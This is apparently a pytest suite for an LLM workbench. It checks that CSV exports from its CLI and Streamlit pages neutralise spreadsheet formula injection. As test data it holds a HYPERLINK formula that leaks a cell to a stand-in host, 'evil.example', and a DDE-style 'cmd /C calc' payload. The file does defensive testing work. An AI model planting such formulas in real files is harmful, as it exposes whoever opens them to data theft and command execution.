"""Every CSV the workbench writes is safe to open in a spreadsheet (no CSV injection).

A model's output, a dataset cell or an error can begin with `=`, `+`, `-`, `@`, a tab or a
carriage return; a spreadsheet would run such a cell as a formula (`=HYPERLINK(…)` becomes a
link). Each door that writes CSV is tried here: the CLI's run export, eval and stability reports
and `testsets show`, and the app's downloads in History, Playground, Compare and Evaluate.

The hostile answers are planted where they would come from: the model. A first run stores
outputs; their text is then replaced in the database, and the same run again is answered from
the cache, so the second run's files carry the planted text.
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import streamlit.testing.v1.app_test as app_test_module
from conftest import app_test
from sqlalchemy import update
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from workbench import jobs
from workbench.exchange import export_outputs
from workbench.reports import csv_bytes, spreadsheet_safe
from workbench.runner import Runner
from workbench.store import Output, get_store
from workbench.workspace import open_library

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
SAFE = "'" + HOSTILE
Cli = Callable[..., tuple[int, str, str]]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HOSTILE, SAFE),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("- a list item", "'- a list item"),
        # plain numbers stay numbers, in text or not
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-2e-3", "-2e-3"),
        ("-.5", "-.5"),
        (-3, -3),
        (0.25, 0.25),
        (None, None),
        # anything else is untouched
        ("Positive", "Positive"),
        (" =1+1", " =1+1"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ({"text": "=1"}, '{"text": "=1"}'),  # JSON starts with a brace
        (["=1"], '["=1"]'),
    ],
)
def test_a_cell_that_would_run_as_a_formula_gets_a_leading_quote(cell: Any, written: Any) -> None:
    assert spreadsheet_safe(cell) == written


def test_csv_bytes_quotes_the_header_too_and_reads_back_with_the_quote() -> None:
    data = csv_bytes(["text", "=cmd"], [[HOSTILE, -3], ["-3", "plain"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows == [["text", "'=cmd"], [SAFE, "-3"], ["-3", "plain"]]


# --- the CLI --------------------------------------------------------------------------------------


def plant(text: str = HOSTILE, **columns: str | None) -> None:
    """Every stored output now reads `text` (and other columns, such as error) instead."""
    store = get_store(os.environ["WORKBENCH_DATABASE_URL"])
    with store.write() as s:
        s.execute(update(Output).values(text=text, **columns))


def read_csv(data: str | bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.DictReader(io.StringIO(text, newline="")))


def ok(result: tuple[int, str, str]) -> str:
    code, out, err = result
    assert code == 0, err
    return out


def test_cli_runs_export_csv(tiny_cli: Cli, tmp_path: Path) -> None:
    ok(tiny_cli("run", "zero-shot-sentiment", "--var", "text=@home", "--param", "max_new_tokens=2"))
    plant(error="+ERROR(1)")
    target = tmp_path / "run.csv"
    ok(tiny_cli("runs", "export", "1", "--format", "csv", "-o", target))
    [row] = read_csv(target.read_bytes())
    assert row["text"] == SAFE
    assert row["error"] == "'+ERROR(1)"
    assert row["variables"] == '{"text": "@home"}'
    assert row["row_index"] == "0" and row["prompt_tokens"].isdigit()
    jsonl = ok(tiny_cli("runs", "export", "1", "--format", "jsonl"))
    assert f'"text": {HOSTILE!r}'.replace("'", '"') not in jsonl  # JSON escapes the quotes …
    assert '"text": "=HYPERLINK(' in jsonl  # … and keeps the exact text


def test_cli_eval_report_csv(tiny_cli: Cli, tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("text\nfine\n", encoding="utf-8")
    command = ("eval", "zero-shot-sentiment", "--dataset", rows, "--assert", "contains:zzz")
    ok(tiny_cli(*command, "--param", "max_new_tokens=2"))
    plant()
    target = tmp_path / "report.csv"
    ok(tiny_cli(*command, "--param", "max_new_tokens=2", "--output", target))
    [row] = read_csv(target.read_bytes())
    assert row["output"] == SAFE
    assert row["row"] == "1" and row["value"] == "0.0"


STABILITY = (
    "stability",
    "zero-shot-sentiment",
    "--var",
    "text=fine",
    "--seeds",
    "2",
    "--param",
    "max_new_tokens=2",
)


def test_cli_stability_report_csv(tiny_cli: Cli, tmp_path: Path) -> None:
    ok(tiny_cli(*STABILITY))
    plant()
    target = tmp_path / "stability.csv"
    ok(tiny_cli(*STABILITY, "--output", target))
    [row] = read_csv(target.read_bytes())
    assert row["majority"].startswith("'=")
    assert row["agreement"] == "1.0000" and row["samples"] == "2"


def test_cli_testsets_show_csv(tiny_cli: Cli, tmp_path: Path) -> None:
    source = tmp_path / "rows.jsonl"
    source.write_text(
        '{"text": "=HYPERLINK(\\"x\\")", "score": -3, "label": "-3"}\n'
        '{"text": "@everyone", "score": 2, "label": "-x"}\n',
        encoding="utf-8",
    )
    ok(tiny_cli("testsets", "save", "hostile", source))
    rows = read_csv(ok(tiny_cli("testsets", "show", "hostile")))
    assert rows == [
        {"text": '\'=HYPERLINK("x")', "score": "-3", "label": "-3"},
        {"text": "'@everyone", "score": "2", "label": "'-x"},
    ]
    exact = ok(tiny_cli("testsets", "show", "hostile", "--format", "jsonl"))
    assert exact.splitlines()[1] == '{"text": "@everyone", "score": 2, "label": "-x"}'


# --- the app's downloads --------------------------------------------------------------------------


class KeptStorage(MemoryMediaFileStorage):
    """AppTest's in-memory media storage, remembered so a test can read what a button serves."""

    last: KeptStorage | None = None

    def __init__(self, media_endpoint: str) -> None:
        super().__init__(media_endpoint)
        KeptStorage.last = self


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> Callable[[Any, str], bytes]:
    """(AppTest, a download button's label) → the bytes that button serves."""
    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", KeptStorage)

    def data(at: Any, label: str) -> bytes:
        [button] = [b.proto for b in at.get("download_button") if b.proto.label == label]
        assert KeptStorage.last is not None
        file_id = button.url.rsplit("/", 1)[-1].split(".", 1)[0]
        return bytes(KeptStorage.last.get_file(file_id).content)

    return data


def stored_run(tiny_backend: Any, rows: list[dict[str, str]]) -> int:
    lib = open_library()
    summary = Runner(lib, tiny_backend).run(
        [lib.get("zero-shot-sentiment")], rows, overrides={"max_new_tokens": 2}
    )
    return summary.run.id


def finished(at: Any, job_key: str) -> Any:
    assert not at.exception, at.exception
    assert not at.error, [e.value for e in at.error]
    job = jobs.get_job(at.session_state[job_key])
    assert job is not None and job.wait(120) and job.error is None, job and job.error
    at.run()
    assert not at.exception, at.exception
    return job


def test_app_history_download(
    app_env: Path, tiny_backend: Any, downloads: Callable[[Any, str], bytes]
) -> None:
    run_id = stored_run(tiny_backend, [{"text": "-x"}])
    plant()
    at = app_test("pages/4_History.py").run()
    at.selectbox(key="history:open").set_value(run_id).run()
    assert not at.exception, at.exception
    [row] = read_csv(downloads(at, "Download CSV"))
    assert row["text"] == SAFE


def test_app_playground_dataset_download(
    app_env: Path, downloads: Callable[[Any, str], bytes]
) -> None:
    at = app_test("pages/2_Playground.py").run()
    at.selectbox(key="play_prompt").set_value("zero-shot-sentiment-chat").run()
    at.session_state["play_ds:zero-shot-sentiment-chat@1:rows"] = {
        "edited_rows": {0: {"text": "great"}},
        "added_rows": [],
        "deleted_rows": [],
    }
    at.number_input(key="param:zero-shot-sentiment-chat@1:max_new_tokens").set_value(2).run()
    at.button(key="play_run_dataset").click().run()
    finished(at, "play_dataset_job")
    plant()
    at.button(key="play_run_dataset").click().run()
    job = finished(at, "play_dataset_job")
    assert all(o.cached for o in job.result.outputs)
    [row] = read_csv(downloads(at, "Download CSV"))
    assert row["text"] == SAFE


def test_app_compare_download(
    app_env: Path, tiny_backend: Any, downloads: Callable[[Any, str], bytes]
) -> None:
    rows = [{"text": "@ a row"}, {"text": "-5"}]
    first, second = stored_run(tiny_backend, rows), stored_run(tiny_backend, rows)
    plant()
    at = app_test("pages/3_Compare.py").run()
    at.radio(key="cmp_mode").set_value("Stored runs").run()
    at.multiselect(key="cmp_runs").set_value([first, second]).run()
    at.button(key="cmp_stored").click().run()
    assert not at.exception, at.exception
    data = read_csv(downloads(at, "Download the comparison (CSV)"))
    assert [r["text"] for r in data] == ["'@ a row", "-5"]
    answers = [v for r in data for k, v in r.items() if k != "text"]
    assert answers == [SAFE] * 4


def run_planted(at: Any) -> None:
    """Evaluate once for real, plant a hostile answer in place of what was stored, then
    evaluate again: the cached answer brings the planted text into the report."""
    at.button(key="eval_run").click().run()
    finished(at, "eval_job")
    plant()
    at.button(key="eval_run").click().run()
    finished(at, "eval_job")


def test_app_evaluate_report_downloads(
    app_env: Path, downloads: Callable[[Any, str], bytes]
) -> None:
    at = app_test("pages/6_Evaluate.py").run()
    at.multiselect(key="eval_refs").set_value(["zero-shot-sentiment@1"]).run()
    at.session_state["eval_rows:rows"] = {
        "edited_rows": {0: {"text": "I love it", "expected": "Positive"}},
        "added_rows": [],
        "deleted_rows": [],
    }
    at.text_input(key="eval_params").set_value("max_new_tokens=2").run()
    at.text_area(key="eval_asserts").set_value("exact-match").run()
    run_planted(at)
    [row] = read_csv(downloads(at, "Download CSV"))
    assert row["output"] == SAFE

    at.radio(key="eval_measure").set_value("Stability across seeds").run()
    at.number_input(key="eval_seeds").set_value(2).run()
    run_planted(at)
    [row] = read_csv(downloads(at, "Download CSV"))
    assert row["majority"].startswith("'=")


def test_export_outputs_is_the_one_run_export(tiny_backend: Any, app_env: Path) -> None:
    """History and Playground download what `export_outputs` makes; JSON Lines stays exact."""
    from workbench.runs import run_outputs

    run_id = stored_run(tiny_backend, [{"text": "x"}])
    plant()
    outputs = run_outputs(open_library().store, run_id)
    [row] = read_csv(export_outputs(outputs, "csv"))
    assert row["text"] == SAFE
    assert HOSTILE.replace('"', '\\"') in export_outputs(outputs, "jsonl").decode("utf-8")
